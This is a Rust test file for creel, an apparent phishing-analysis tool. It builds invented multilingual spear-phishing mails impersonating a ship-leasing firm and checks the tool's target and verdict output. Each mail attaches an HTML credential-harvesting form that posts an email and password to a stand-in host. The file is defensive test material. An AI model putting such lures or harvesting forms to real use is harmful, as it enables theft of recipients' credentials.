//! A second invented campaign, of another world than the shipped example: offers for building wind farms at sea, in Danish,
//! Polish, Japanese, Turkish and Greek, to role mailboxes, a list, free mail, and people whose titles stand in display
//! names, salutations and quoted threads. What creel says about targets is compared with a truth that was written by hand
//! from the mails, before creel read them.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

mod support;

use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use support::{creel, json_lines, run};

const ROSTER: &str = "name,domain,country,sector,stage,customers\n\
    Vesterhav Vind,vesterhav-vind.example,DK,energy,operator,\n\
    Bałtycka Farma Wiatrowa,baltycka-farma.example,PL,energy,operator,\n\
    Kujira Kiso,kujira-kiso.example,JP,metal,foundations,Vesterhav Vind|Bałtycka Farma Wiatrowa\n\
    Ege Kule Sanayi,ege-kule.example,TR,metal,towers,Vesterhav Vind\n\
    Aigaio Kalodia,aigaio-kalodia.example,GR,electrical,cables,Bałtycka Farma Wiatrowa|Vesterhav Vind\n\
    Nordstrøm Havneservice,nordstrom-havn.example,DK,transportation,port,Vesterhav Vind\n\
    Zatoka Dźwigi,zatoka-dzwigi.example,PL,transportation,port,Bałtycka Farma Wiatrowa\n";

const LEXICON: &str = "kind,words,note,line\n\
    programme,Sydhavet 2030|Morze 2030,a tender of two countries,\n\
    product,monopile|monopæl*|monopal*|モノパイル|tek kazık*|μονοπάσσαλ*,foundation in one piece,\n\
    product,jack-up vessel|jack-up-skib*|statk* jack-up|自己昇降式作業船|jack-up gemi*,ship that stands on the sea bed,\n\
    product,array cable*|kabl* między turbinami|アレイケーブル|καλώδι* διασύνδεσης,cable between turbines,\n\
    standard,DNV-ST-0126|IEC 61400-3,structures at sea,\n\
    organisation,Solheim Marine,leases ships,jack-up vessel|monopile\n";

const EVENTS: &str = "date,name\n2023-05-02,The tender of two countries opens\n2023-06-30,Bids are due\n";

/// One mail: its further fields, its text, what is true of its targets, and what it knows.
struct Case {
    fields: &'static str,
    text: &'static str,
    /// A line a target: address, mailbox, person, organisation, country, stage, function, seniority, role; `-` if nothing tells.
    targets: &'static str,
    /// Words of the lexicon, sorted.
    knows: &'static str,
}

const CASES: &[Case] = &[
    Case {
        fields: "To: \"Mette Kragh (Økonomidirektør)\" <mette.kragh@vesterhav-vind.example>\n",
        text: "Kære Mette Kragh,\n\nvi beder om Deres bedste tilbud på 24 monopæle og et jack-up-skib til Sydhavet 2030.",
        targets: "mette.kragh@vesterhav-vind.example|person|Mette Kragh|Vesterhav Vind|DK|operator|finance|director|director-of-finance",
        knows: "jack-up vessel, monopile, Sydhavet 2030",
    },
    Case {
        fields: "To: indkoeb@vesterhav-vind.example\n",
        text: "Til indkøbsafdelingen,\n\nvi beder om tilbud på monopæle efter DNV-ST-0126.",
        targets: "indkoeb@vesterhav-vind.example|role|-|Vesterhav Vind|DK|operator|procurement|-|-",
        knows: "DNV-ST-0126, monopile",
    },
    Case {
        fields: "To: Tomasz Lewicki <t.lewicki@baltycka-farma.example>\n",
        text: "Szanowny Panie,\n\nprosimy o ofertę na kable między turbinami.\n\n\
            W dniu 3 maja 2023 Tomasz Lewicki napisał:\n> Dziękujemy za zainteresowanie.\n>\n> Z poważaniem\n> Tomasz Lewicki\n\
            > Dyrektor ds. Zakupów\n> Bałtycka Farma Wiatrowa",
        targets: "t.lewicki@baltycka-farma.example|person|Tomasz Lewicki|Bałtycka Farma Wiatrowa|PL|operator|procurement|director|purchasing-manager",
        knows: "array cable",
    },
    Case {
        fields: "To: biuro@baltycka-farma.example\n",
        text: "Dzień dobry,\n\nprosimy o ofertę na statki jack-up i kable między turbinami, program Morze 2030.",
        targets: "biuro@baltycka-farma.example|role|-|Bałtycka Farma Wiatrowa|PL|operator|-|-|-",
        knows: "array cable, jack-up vessel, Sydhavet 2030",
    },
    Case {
        fields: "To: =?utf-8?b?5L2Q44CF5pyoIOe/lOWkqg==?= <s.sasaki@kujira-kiso.example>\n",
        text: "営業部長 佐々木様\n\nモノパイル12本と自己昇降式作業船の見積をお願いします。",
        targets: "s.sasaki@kujira-kiso.example|person|佐々木 翔太|Kujira Kiso|JP|foundations|sales|head|-",
        knows: "jack-up vessel, monopile",
    },
    Case {
        fields: "To: eigyo@kujira-kiso.example\n",
        text: "営業部 御中\n\nアレイケーブルとモノパイルの見積をお願いします。",
        targets: "eigyo@kujira-kiso.example|role|-|Kujira Kiso|JP|foundations|sales|-|-",
        knows: "array cable, monopile",
    },
    Case {
        fields: "To: =?utf-8?q?Emine_Ko=C3=A7_-_=C4=B0nsan_Kaynaklar=C4=B1_M=C3=BCd=C3=BCr=C3=BC?= <emine.koc@ege-kule.example>\n",
        text: "Sayın Emine Koç,\n\ntek kazıklar ve jack-up gemiler için fiyat teklifi rica ederiz.",
        targets: "emine.koc@ege-kule.example|person|Emine Koç|Ege Kule Sanayi|TR|towers|hr|manager|human-resources-officer",
        knows: "jack-up vessel, monopile",
    },
    Case {
        fields: "To: satinalma@ege-kule.example\n",
        text: "Sayın Yetkili,\n\ntek kazık için fiyat teklifi rica ederiz.",
        targets: "satinalma@ege-kule.example|role|-|Ege Kule Sanayi|TR|towers|procurement|-|-",
        knows: "monopile",
    },
    Case {
        fields: "To: =?utf-8?b?zp3Or866zr/PgiDOoM6xz4DPgM6sz4I=?= <n.pappas@aigaio-kalodia.example>\n",
        text: "Αγαπητέ κύριε Παππά,\n\nπαρακαλούμε για προσφορά για καλώδια διασύνδεσης και μονοπασσάλους.\n\n\
            Στις 4 Μαΐου 2023 ο Νίκος Παππάς έγραψε:\n> Ευχαριστούμε πολύ.\n>\n> Με εκτίμηση\n> Νίκος Παππάς\n> Οικονομικός Διευθυντής\n\
            > Αιγαίο Καλώδια",
        targets: "n.pappas@aigaio-kalodia.example|person|Νίκος Παππάς|Aigaio Kalodia|GR|cables|finance|director|director-of-finance",
        knows: "array cable, monopile",
    },
    Case {
        fields: "To: promithies@aigaio-kalodia.example\n",
        text: "Αγαπητοί κύριοι,\n\nπαρακαλούμε για προσφορά για καλώδια διασύνδεσης σύμφωνα με το IEC 61400-3.",
        targets: "promithies@aigaio-kalodia.example|role|-|Aigaio Kalodia|GR|cables|procurement|-|-",
        knows: "array cable, DNV-ST-0126",
    },
    Case {
        fields: "To: vindteam@lists.vesterhav-vind.example\nList-Id: <vindteam.lists.vesterhav-vind.example>\n\
            List-Post: <mailto:vindteam@lists.vesterhav-vind.example>\n",
        text: "Til alle,\n\nvi beder om tilbud på jack-up-skibe og monopæle.",
        targets: "vindteam@lists.vesterhav-vind.example|list|-|Vesterhav Vind|DK|operator|-|-|-",
        knows: "jack-up vessel, monopile",
    },
    Case {
        fields: "To: =?utf-8?q?S=C3=B8ren_Bak?= <soeren.bak@folkepost.example>\n",
        text: "Kære Søren Bak,\n\nvi beder om Deres bedste tilbud på monopæle og et jack-up-skib.",
        targets: "soeren.bak@folkepost.example|person|Søren Bak|-|-|-|-|-|-",
        knows: "jack-up vessel, monopile",
    },
    Case {
        fields: "To: \"Jens Holm, Driftsdirektør\" <jens.holm@nordstrom-havn.example>\nCc: it@nordstrom-havn.example\n",
        text: "Kære Jens Holm,\n\nvi beder om tilbud på havneplads til et jack-up-skib med monopæle, Sydhavet 2030.",
        targets: "it@nordstrom-havn.example|role|-|Nordstrøm Havneservice|DK|port|it|-|-\n\
            jens.holm@nordstrom-havn.example|person|Jens Holm|Nordstrøm Havneservice|DK|port|operations|director|-",
        knows: "jack-up vessel, monopile, Sydhavet 2030",
    },
    Case {
        fields: "To: Laura Finch <laura.finch@gannet-surveys.example>\n",
        text: "Dear Laura,\n\nplease quote for surveys of array cables under IEC 61400-3.\n\n\
            On 4 May 2023, Laura Finch wrote:\n> Thank you for your interest.\n>\n> Kind regards\n> Laura Finch\n\
            > Head of Marketing and Communications\n> Gannet Surveys Ltd\n> Tel. +44 20 7946 0123",
        targets: "laura.finch@gannet-surveys.example|person|Laura Finch|gannet-surveys.example|GB|-|marketing-communication|head|head-of-marketing-communication",
        knows: "array cable, DNV-ST-0126",
    },
    Case {
        fields: "To: postkasse@strandby-kommune.example\n",
        text: "Hej,\n\nvi beder om tilladelse til at sejle med et jack-up-skib.",
        targets: "postkasse@strandby-kommune.example|role|-|strandby-kommune.example|-|-|-|-|-",
        knows: "jack-up vessel",
    },
];

fn mail(number: usize, case: &Case) -> String {
    let boundary = format!("wind{number}");
    let fields = case.fields.replace('\n', "\r\n");
    let (hour, minute) = (6 + number % 9, number * 3);
    format!(
        "Return-Path: <i.solheim@solheim-marine-bids.test>\r\nFrom: Ingrid Solheim <i.solheim@solheim-marine-bids.test>\r\n{fields}\
         Subject: Request for quotation - SM-2023-05\r\nDate: Tue, 9 May 2023 {hour:02}:{minute:02}:00 +0000\r\n\
         Message-ID: <{number}.0523@solheim-marine-bids.test>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary={boundary}\r\n\r\n--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\
         Content-Transfer-Encoding: 8bit\r\n\r\n{}\r\n\r\nThe request is attached.\r\n\r\nIngrid Solheim\r\nCommercial Manager\r\n\
         Solheim Marine\r\n\r\n--{boundary}\r\nContent-Type: text/html; name=\"request.html\"\r\n\
         Content-Disposition: attachment; filename=\"request.html\"\r\n\r\n<title>Request for quotation</title><p>Sign in to view \
         the document.</p><form method=\"post\" action=\"https://bids-viewer.invalid/in.php\"><input type=\"email\" \
         name=\"u\"><input type=\"password\" name=\"p\"></form>\r\n--{boundary}--\r\n",
        case.text.replace('\n', "\r\n")
    )
}

/// What creel says of a mail's targets, in the words of [`Case::targets`].
fn told(line: &Value) -> String {
    let members =
        ["address", "mailbox", "person", "organisation", "country", "stage", "function", "seniority", "role"];
    let mut rows: Vec<String> = line["targets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|target| members.map(|member| target[member].as_str().unwrap_or("-")).join("|"))
        .collect();
    rows.sort();
    rows.join("\n")
}

fn known(line: &Value, kinds: &[&str]) -> String {
    let all = line["knowledge"].as_array().unwrap().iter();
    let mut words: Vec<&str> = all
        .filter(|known| kinds.contains(&known["kind"].as_str().unwrap()))
        .map(|known| known["word"].as_str().unwrap())
        .collect();
    words.sort_by_key(|word| word.to_lowercase());
    words.join(", ")
}

#[test]
fn what_is_said_about_targets_is_what_is_true() {
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name);
    std::fs::create_dir(path("mails")).unwrap();
    for (number, case) in CASES.iter().enumerate() {
        std::fs::write(path(&format!("mails/{number:02}.eml")), mail(number, case)).unwrap();
    }
    for (name, text) in [
        ("roster.csv", ROSTER),
        ("offshore-wind.csv", LEXICON),
        ("events.csv", EVENTS),
        ("hosts.tsv", "folkepost.example\tfree-mail\n"),
    ] {
        std::fs::write(path(name), text).unwrap();
    }
    let mut scan = creel(folder.path());
    scan.args(["scan", "mails", "--roster", "roster.csv", "--lexicon", "offshore-wind.csv"]);
    scan.args(["--events", "events.csv", "--hosts", "hosts.tsv", "--in-process"]);
    let (code, summary, errors) = run(&mut scan);
    assert_eq!(code, 0, "{errors}");

    let lines: BTreeMap<String, Value> = json_lines(&path("creel-case/messages.jsonl"))
        .into_iter()
        .map(|line| (line["file"].as_str().unwrap().to_owned(), line))
        .collect();
    let mut wrong = String::new();
    for (number, case) in CASES.iter().enumerate() {
        let line = &lines[&format!("mails/{number:02}.eml")];
        if told(line) != case.targets {
            let _ = writeln!(wrong, "{number:02} is\n{}\nbut is said to be\n{}", case.targets, told(line));
        }
        let words = known(line, &["programme", "product", "standard", "term"]);
        if words != case.knows {
            let _ = writeln!(wrong, "{number:02} knows [{}], but is said to know [{words}]", case.knows);
        }
    }
    assert!(wrong.is_empty(), "{wrong}");

    // Whoever poses as the firm that leases the ships asks for what it leases.
    let posing: Vec<&String> = lines
        .iter()
        .filter(|(_, line)| known(line, &["persona"]).contains("Solheim Marine"))
        .map(|(name, _)| name)
        .collect();
    assert_eq!(posing.len(), 12, "{posing:?}");
    let organisations: BTreeSet<&str> = CASES
        .iter()
        .flat_map(|case| case.targets.lines())
        .filter_map(|row| row.split('|').nth(3).filter(|name| *name != "-"))
        .collect();
    assert_eq!(organisations.len(), 8);
    // The town's country is told by nothing, so that the number of countries is a lower bound. Sixteen addresses got a mail;
    // the mail to the list passes for the list's own, and what means no harm aims at nobody.
    let judged = |line: &&Value| line["verdict"] != "phishing";
    assert_eq!(lines.values().filter(judged).count(), 1);
    assert_ne!(lines["mails/10.eml"]["verdict"], "phishing");
    // Sentences are broken into lines.
    let summary = summary.split_whitespace().collect::<Vec<_>>().join(" ");
    for words in ["8 organisations", "at least 6 countries", "15 addresses"] {
        assert!(summary.contains(words), "{words} in\n{summary}");
    }
}
